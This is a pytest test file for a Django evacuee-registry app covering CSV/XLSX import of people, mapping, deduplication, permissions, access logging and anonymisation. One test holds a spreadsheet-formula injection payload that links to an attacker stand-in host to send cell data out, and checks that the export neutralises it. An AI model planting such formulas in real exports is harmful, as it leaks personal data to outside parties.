"""Bulk import of people from CSV and XLSX: mapping, preview, the run, the error file, and
importing the same file twice."""

import csv
import io

import pytest
from django.urls import reverse
from openpyxl import Workbook

from evac.people.anonymise import citizens_anonymise
from evac.people.import_models import ImportedRow, ImportMapping, PeopleImport
from evac.people.imports import (
    import_create,
    import_preview,
    import_run,
    import_start,
    mapping_apply,
    mapping_save,
)
from evac.people.models import Citizen
from evac.people.spreadsheets import guess_mapping, read_date, read_phone, read_sheet

pytestmark = pytest.mark.django_db

HEADER = "Прізвище;Ім'я;Дата народження;Паспорт;Телефон;Місто;Родина"
ROWS = [
    "SHEVCHENKO;TARAS;09.03.1984;FA123456;067 123 45 67;Almaty;",
    "KOVAL;OLENA;1990-05-01;FB000001;+380671112233;Алмати;K",
    "KOVAL;IVAN;33000;FB000002;380501112233;Almaty;K",
    "Шевченко;Марія;01.01.1970;FC000003;0671234568;Almaty;",  # Cyrillic in a Latin field
    "BONDAR;PETRO;31.02.1980;FD000004;0671234569;Almaty;",  # no such date
    "MELNYK;ANNA;01.01.1985;FE000005;0671234570;Atlantis;",  # unknown city
]


def csv_bytes(rows=ROWS, header=HEADER) -> bytes:
    # As Excel saves it in a Ukrainian locale: a BOM, ";" and trailing empty rows.
    return ("\ufeff" + "\r\n".join([header, *rows, ";;;;;;", ";;;;;;", ""])).encode()


@pytest.fixture(autouse=True)
def almaty_in_cyrillic(almaty):
    # A list may name the city as Ukrainians spell it.
    almaty.name_native = "Алмати"
    almaty.save()


def run(operation, by, content=None, name="hotline.csv") -> PeopleImport:
    created = import_create(
        operation=operation, by=by, file_name=name, content=content or csv_bytes()
    )
    import_start(people_import=created, by=by)
    return import_run(import_id=created.pk)


def test_headers_are_recognised_in_english_ukrainian_and_russian():
    assert guess_mapping(["Surname", "First name", "Date of birth", "Passport"]) == {
        "0": "surname",
        "1": "given_names",
        "2": "date_of_birth",
        "3": "document_number",
    }
    assert set(guess_mapping(["Прізвище", "Ім'я", "Телефон", "Місто"]).values()) == {
        "surname",
        "given_names",
        "phone",
        "current_city",
    }
    assert set(guess_mapping(["Фамилия", "Имя", "Дата рождения", "Город"]).values()) == {
        "surname",
        "given_names",
        "date_of_birth",
        "current_city",
    }


def test_dates_are_read_as_spreadsheets_hold_them():
    assert read_date("09.03.1984") == "1984-03-09"
    assert read_date("1984-03-09") == "1984-03-09"
    assert read_date("30750") == "1984-03-09"  # an Excel serial date
    assert read_date("31.02.1980") == "31.02.1980"  # left for the form to refuse


def test_phones_that_excel_turned_into_numbers_get_their_plus_back():
    assert read_phone("380671234567") == "+380671234567"
    assert read_phone("380671234567.0") == "+380671234567"
    assert read_phone("0671234567") == "0671234567"
    assert read_phone("00380671234567") == "+380671234567"


def test_a_csv_with_a_bom_semicolons_a_merged_header_and_empty_rows_is_read():
    sheet = read_sheet(
        "\ufeffName;;Born\r\nKOVAL;OLENA;01.01.1990\r\n;;\r\n".encode(), file_name="a.csv"
    )
    assert sheet.headers == ["Name", "Name (2)", "Born"]
    assert sheet.rows == [["KOVAL", "OLENA", "01.01.1990"]]


def test_the_preview_shows_rows_as_stored_and_why_a_row_would_not_be(operation, almaty, bob):
    created = import_create(operation=operation, by=bob, file_name="h.csv", content=csv_bytes())
    preview = import_preview(created)

    assert created.rows_total == 6
    assert preview[0].person["surname"] == "SHEVCHENKO"
    assert str(preview[0].person["date_of_birth"]) == "1984-03-09"
    assert str(preview[0].person["phone"]) == "+380671234567"
    assert preview[0].errors == []
    assert any("Transliterated: SHEVCHENKO" in e for e in preview[3].errors)
    assert preview[4].errors and preview[5].errors


def test_a_run_registers_the_good_rows_and_keeps_the_bad_ones_with_a_reason(operation, almaty, bob):
    done = run(operation, bob)

    assert done.status == PeopleImport.Status.DONE
    assert (done.rows_done, done.rows_created, done.rows_error) == (6, 3, 3)
    assert done.percent == 100
    people = Citizen.objects.filter(operation=operation, source=Citizen.Source.IMPORT)
    assert sorted(people.values_list("surname", flat=True)) == ["KOVAL", "KOVAL", "SHEVCHENKO"]
    koval = people.filter(surname="KOVAL")
    assert koval[0].household_id and koval[0].household_id == koval[1].household_id
    assert str(people.get(given_names="IVAN").date_of_birth) == "1990-05-07"
    reasons = [row[-1] for row in done.error_rows]
    assert [row[0] for row in done.error_rows] == ["Шевченко", "BONDAR", "MELNYK"]
    assert "Transliterated: SHEVCHENKO" in reasons[0]
    assert "Atlantis" in reasons[2]


def test_importing_the_same_file_again_registers_nobody_twice(operation, almaty, bob):
    run(operation, bob)
    again = run(operation, bob, name="hotline-again.csv")

    assert again.rows_created == 0
    assert again.rows_skipped == 3
    assert Citizen.objects.filter(operation=operation).count() == 3


def test_someone_already_registered_at_the_desk_is_not_registered_again(operation, almaty, bob):
    run(operation, bob, content=csv_bytes(rows=ROWS[:1]))
    # The same passport, in another list spelt otherwise.
    other = "SHEVCHENKO;TARAS P;09.03.1984;FA123456;;Almaty;"
    done = run(operation, bob, content=csv_bytes(rows=[other]))

    assert done.rows_created == 0 and done.rows_error == 1
    assert "May already be registered" in done.error_rows[0][-1]


def test_an_xlsx_file_with_excel_dates_and_numbers_is_imported(operation, almaty, bob):
    book = Workbook()
    sheet = book.active
    sheet.append(["Фамилия", "Имя", "Дата рождения", "Номер паспорта", "Телефон", "Город"])
    sheet.append(["LYSENKO", "OKSANA", 30750, "FA777777", 380671234599, "Almaty"])
    sheet.append([None] * 6)
    out = io.BytesIO()
    book.save(out)

    done = run(operation, bob, content=out.getvalue(), name="list.xlsx")

    person = Citizen.objects.get(operation=operation, surname="LYSENKO")
    assert done.rows_created == 1 and done.rows_total == 1
    assert str(person.date_of_birth) == "1984-03-09"
    assert str(person.phone) == "+380671234599"


def test_a_saved_mapping_is_used_again_for_a_file_with_the_same_headers(operation, almaty, bob):
    first = import_create(operation=operation, by=bob, file_name="a.csv", content=csv_bytes())
    first.mapping = {"0": "surname", "1": "given_names", "2": "date_of_birth", "5": "current_city"}
    first.save()
    saved = mapping_save(people_import=first, by=bob, name="Hotline")
    second = import_create(operation=operation, by=bob, file_name="b.csv", content=csv_bytes())

    mapping_apply(people_import=second, by=bob, saved=saved)

    assert second.mapping == first.mapping
    assert ImportMapping.objects.get(operation=operation).name == "Hotline"


def test_a_viewer_may_not_import(operation, almaty, carol):
    with pytest.raises(Exception, match="permission"):
        import_create(operation=operation, by=carol, file_name="a.csv", content=csv_bytes())


def test_the_pages_take_an_upload_through_to_the_error_file(client, operation, almaty, bob):
    client.force_login(bob)
    upload = io.BytesIO(csv_bytes())
    upload.name = "hotline.csv"
    response = client.post(reverse("people:imports", args=[operation.slug]), {"file": upload})
    created = PeopleImport.objects.get()
    page = reverse("people:import", args=[operation.slug, created.pk])
    assert response["Location"] == page
    assert "Transliterated: SHEVCHENKO" in client.get(page).content.decode()

    client.post(page, {"column-6": "", **_columns(created), "run": "1"})
    assert PeopleImport.objects.get().status == PeopleImport.Status.QUEUED
    import_run(import_id=created.pk)  # what the worker does

    progress = client.get(reverse("people:import_progress", args=[operation.slug, created.pk]))
    assert "100%" in progress.content.decode()
    errors = client.get(reverse("people:import_errors", args=[operation.slug, created.pk]))
    rows = list(csv.reader(io.StringIO(errors.content.decode().lstrip("\ufeff"))))
    assert rows[0][-1] == "Reason" and len(rows) == 4


def test_downloading_the_error_rows_writes_the_access_log(client, operation, almaty, bob, alice):
    from evac.audit.models import AccessLogEntry

    done = run(operation, bob)
    client.force_login(bob)

    response = client.get(reverse("people:import_errors", args=[operation.slug, done.pk]))

    assert response.status_code == 200
    entry = AccessLogEntry.objects.get()
    assert (entry.user, entry.action, entry.object_kind, entry.object_id) == (
        bob,
        "import_errors_downloaded",
        "import",
        done.pk,
    )
    # The access log page names it and links to the import.
    client.force_login(alice)
    log = client.get(reverse("audit:access_log", args=[operation.slug])).content.decode()
    assert f"import {done.pk}" in log


def _columns(people_import):
    return {f"column-{i}": t for i, t in people_import.mapping.items()}


def test_anonymising_the_operation_erases_the_files_and_their_error_rows(operation, almaty, bob):
    done = run(operation, bob)
    citizens_anonymise(operation)
    done.refresh_from_db()

    assert bytes(done.content) == b"" and done.error_rows == [] and done.headers == []
    assert not ImportedRow.objects.filter(operation=operation).exists()
    assert done.rows_created == 3


def test_the_error_file_defuses_a_cell_a_spreadsheet_would_run_as_a_formula(
    client, operation, almaty, bob
):
    # The rows come from whoever filled in the list: opened in Excel, "=…" would run.
    formula = '=HYPERLINK("http://evil.example/?"&B2,"Open")'
    done = run(
        operation,
        bob,
        content=csv_bytes(rows=[f"{formula};OLENA;31.02.1980;FB000009;+380671112299;Almaty;"]),
    )
    assert done.rows_error == 1
    client.force_login(bob)
    errors = client.get(reverse("people:import_errors", args=[operation.slug, done.pk]))
    rows = list(csv.reader(io.StringIO(errors.content.decode().lstrip("\ufeff"))))
    assert rows[1][0] == f"'{formula}"


def test_the_row_numbers_count_the_blank_rows_as_a_spreadsheet_does():
    content = "\ufeffSurname;Given names\r\nA;B\r\n;\r\n\r\nC;D\r\n".encode()

    sheet = read_sheet(content, file_name="list.csv")

    assert sheet.numbers == [2, 5]


def test_the_error_file_names_each_bad_row_by_its_number_in_the_file(operation, almaty, bob):
    done = run(operation, bob)

    numbers = {row[0]: row[-2] for row in done.error_rows}

    # The header is row 1; Шевченко, BONDAR and MELNYK are the 5th to 7th rows.
    assert numbers == {"Шевченко": "5", "BONDAR": "6", "MELNYK": "7"}
